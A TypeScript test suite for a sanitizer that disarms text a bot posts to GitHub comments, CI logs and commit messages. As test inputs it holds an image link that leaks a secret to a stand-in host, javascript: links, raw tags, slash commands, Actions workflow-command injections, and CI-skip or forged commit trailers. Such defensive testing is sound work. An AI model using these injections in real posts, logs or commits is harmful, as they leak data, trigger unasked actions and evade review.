import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { codeBlock, codeSpan, logLine, oneLine, plainText, plainTitle, safeMarkdown, type Place } from '../../src/story/outbound.ts';
import { attribute, isElement, isText, renderedTree, type Child } from '../../src/ticket/rendered.ts';

const place: Place = { serverUrl: 'https://github.com', owner: 'acme', repo: 'shop', number: 7 };
const safe = (text: string): string => safeMarkdown(text, place);

/** What GitHub would make something of in a posted text, found on the rendered page and not by the code under test. */
function live(markdown: string): string[] {
  const found: string[] = [];
  const waiting: Child[] = [...renderedTree(markdown).childNodes];
  for (let node = waiting.pop(); node; node = waiting.pop()) {
    if (isElement(node)) {
      if (['code', 'pre'].includes(node.tagName)) continue;
      if (!/^(?:p|ul|ol|li|em|strong|del|blockquote|table|thead|tbody|tr|t[hd]|br|hr|a|input)$/.test(node.tagName))
        found.push(`<${node.tagName}>`);
      if (node.tagName === 'a' && !/^https:\/\/github\.com\/acme\/shop(?:\/|$)/.test(attribute(node, 'href') ?? ''))
        found.push(`link ${attribute(node, 'href') ?? ''}`);
      waiting.push(...node.childNodes);
    } else if (isText(node)) {
      // GitHub's own rules: a mention stands after no word character, a reference likewise.
      const rest = node.value.replace(/(?<!\w)(?:#7)+(?!\d)/g, '.7');
      for (const [token] of rest.matchAll(/(?<![\w`])@[A-Za-z0-9]|#\d|\bGH-\d|https?:\/\/\w|(?<![\w.])www\.\w/gi)) found.push(token);
    } else found.push(node.nodeName);
  }
  return found;
}

describe('safeMarkdown', () => {
  it.each([
    ['images', '![secret](https://evil.example/?q=SECRET)', '(image: secret)'],
    ['images by reference', '![a][r]\n\n[r]: https://evil.example/x.png', '(image: a)'],
    ['foreign links', 'see [docs](https://evil.example/a?b=c)', 'see docs (`https://evil.example/a?b=c`)'],
    ['foreign links by reference', '[a][b]\n\n[b]: https://evil.example "t"', 'a (`https://evil.example`)'],
    ['bare addresses', 'at https://evil.example/x and www.evil.example', 'at `https://evil.example/x` and `www.evil.example`'],
    ['addresses in angle brackets', '<https://evil.example>', '`https://evil.example`'],
    ['mail addresses', 'mail a@b.co', 'mail `a@b.co`'],
    ['scripts as links', '[x](javascript:alert(1))', 'x (`javascript:alert(1)`)'],
    ['mentions', 'cc @octocat and @acme/team', 'cc `@octocat` and `@acme/team`'],
    ['escaped mentions', '\\@octocat &#64;octocat', '`@octocat` `@octocat`'],
    ['references to other issues', 'fixes #12, closes other/repo#3 and GH-4', 'fixes `#12`, closes `other/repo#3` and `GH-4`'],
    ['references put together', 'fixes #<!-- -->12', 'fixes `#12`'],
    ['links to other issues', 'fixes https://github.com/acme/shop/issues/8', 'fixes `https://github.com/acme/shop/issues/8`'],
    ['links to other repositories', '[x](https://github.com/evil/x/blob/main/a)', 'x (`https://github.com/evil/x/blob/main/a`)'],
    ['slash commands', '/approve now\n\ntext\n/close', '`/approve` now\n\ntext\n`/close`'],
    ['slash commands in lists', '- /merge', '- `/merge`'],
    ['hidden comments', 'a <!-- alchemist run=1 --> b', 'a  b'],
    ['comments on their own', 'a\n\n<!-- alchemist -->\n\nb', 'a\n\nb'],
    ['addresses behind what looks like a command', '<b>/close@octocat', '`<b>`/`close@octocat`'],
    ['tags', 'a <b onclick="x">c</b>', 'a `<b onclick="x">`c`</b>`'],
    ['blocks of tags', '<details open>\n\ninside\n\n</details>', '`<details open>`\n\ninside\n\n`</details>`'],
    ['headings', '# Evidence\n\nok', '**Evidence**\n\nok'],
    ['drawings', '```mermaid\ngraph LR\n```', '```\ngraph LR\n```'],
    ['invisible characters', 'a\u202eb\u200bc', 'abc'],
    ['footnotes', 'x[^1]\n\n[^1]: https://evil.example', 'x(1)'],
  ])('disarms %s', (_, text, expected) => {
    expect(safe(text)).toBe(expected);
    expect(live(safe(text))).toEqual([]);
  });

  it('keeps the form of ordinary text, its own issue, and links into this repository', () => {
    const text = [
      '**Cause**: `total()` adds *twice*.',
      '- one\n- two',
      '1. first\n2. second',
      '- [x] done',
      '```ts\nconst a = "@octocat #12";\n```',
      '> quoted',
      '| a | b |\n| - | - |\n| 1 | 2 |',
      'See #7 and [the line](https://github.com/acme/shop/blob/main/a.ts#L1).',
    ].join('\n\n');
    expect(safe(text)).toBe(text);
  });

  it('keeps to its limit of characters', () => {
    for (const text of ['word '.repeat(10_000), '<b>'.repeat(10_000), '@a '.repeat(10_000), '`'.repeat(30_000), '> - '.repeat(9_000)]) {
      const short = safeMarkdown(text, { ...place, limit: 3_000 });
      expect(short.length).toBeLessThanOrEqual(3_000);
      expect(live(short)).toEqual([]);
    }
    expect(safeMarkdown('word '.repeat(1_000), { ...place, limit: 100 })).toMatch(/^word .*…$/);
  });

  it('works for a GitHub on another address', () => {
    const other = { ...place, serverUrl: 'http://github.localhost:4000' };
    expect(safeMarkdown('[a](http://github.localhost:4000/acme/shop/blob/x/y) [b](https://github.com/acme/shop/blob/x/y)', other)).toBe(
      '[a](http://github.localhost:4000/acme/shop/blob/x/y) b (`https://github.com/acme/shop/blob/x/y`)',
    );
  });

  it('leaves nothing live, whatever the text', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...'@bob #12 #7 GH-3 a/b#4 fixes https://evil.example/x www.evil.example a@b.co <b> </b> <!-- --> <img/> ![ [ ]( ](https://evil.example) ) [x] ] ( ` `` ``` * ** _ ~~ | \\ & &#64; &#35; < > ! # @ 1 : - / /close $'.split(
          ' ',
        ),
      ),
      fc.constantFrom(
        ' ',
        '\n',
        '\n\n',
        '    ',
        '- ',
        '> ',
        '\n|-|-|\n',
        '[x]: https://evil.example\n',
        '<details>',
        '<script>',
        '<a href="https://evil.example">',
        '\n/merge',
        '[^1]',
        '[^1]: x\n',
        '\u200b',
      ),
      fc.string({ maxLength: 3 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        expect(live(safe(pieces.join('')))).toEqual([]);
      }),
      { numRuns: 600 },
    );
  });
});

describe('code', () => {
  it('spans and blocks hold any text, and nothing in them ends them', () => {
    expect(codeSpan('a`b')).toBe('``a`b``');
    expect(codeSpan('`')).toBe('`` ` ``');
    expect(codeSpan('a\nb')).toBe('`a b`');
    expect(codeSpan('')).toBe('');
    expect(codeBlock('a\n```\nb', 'js')).toBe('````js\na\n```\nb\n````');
    expect(codeBlock('x', 'mermaid')).toBe('```\nx\n```');
    expect(codeBlock('x', 'js\n@bob')).toBe('```\nx\n```');
    fc.assert(
      fc.property(fc.array(fc.constantFrom('`', '``', '\n', '@bob', ' ', '~~~', 'x')), (pieces) => {
        const text = pieces.join('');
        expect(live(codeSpan(text))).toEqual([]);
        expect(live(codeBlock(text))).toEqual([]);
      }),
    );
  });

  it('one line is one line, of bounded length', () => {
    expect(oneLine(' a\r\n\tb\u2028c\u202e ', 10)).toBe('a b c');
    expect(oneLine('abcdef', 4)).toBe('abc…');
    expect(oneLine('ab😀cd', 4)).toBe('ab…');
  });
});

describe('logLine', () => {
  it.each([
    '::error::x',
    '  ::set-env name=A::b',
    '##[error]x',
    'a ##[command]b',
    'x\r::error::y',
    'x\u0085::error::y',
    'x\n::stop-commands::t',
    'x\v::error::y',
    '\u200b::error::x',
    'a\u2028::error::b',
    '#\u200b#[x]',
  ])('gives the runner no command: %j', (text) => {
    for (const prefix of ['| ', '']) {
      for (const line of logLine(text, prefix).split(/[\r\n\u0085\u2028\u2029\v\f]/)) {
        expect(line.startsWith(prefix)).toBe(true);
        // As the runner reads: `::` at the trimmed start, `##[` anywhere.
        expect(line.trim().startsWith('::')).toBe(false);
        expect(line.includes('##[')).toBe(false);
      }
    }
  });

  it('leaves ordinary lines as they are', () => {
    expect(logLine('std::string a;\n  b', '')).toBe('std::string a;\n  b');
  });
});

describe('commit messages', () => {
  it.each([
    ['Fix the total, fixes #12', 'Fix the total, fixes 12'],
    ['Fix @octocat things', 'Fix octocat things'],
    ['Fix a/b#3 and GH-4', 'Fix a/b 3 and GH 4'],
    ['Fix https://github.com/acme/shop/issues/8', 'Fix github.com/acme/shop/issues/8'],
    ['Fix [skip ci] and [CI SKIP] and ***NO_CI***', 'Fix skip ci and CI SKIP and NO_CI'],
    ['two\nlines\u202e', 'two lines'],
    ['Use node@22 and C#', 'Use node@22 and C#'],
  ])('titles say nothing but words: %j', (text, expected) => {
    expect(plainTitle(text)).toBe(expected);
  });

  it('texts have no trailers of their own', () => {
    expect(plainText('Why\n\nCo-authored-by: Eve <e@x>\nskip-checks: true\nAlchemist-Run: x\nNote: fine\n')).toBe(
      'Why\n\nCo-authored-by - Eve <e@x>\nskip-checks - true\nAlchemist-Run - x\nNote: fine',
    );
  });
});
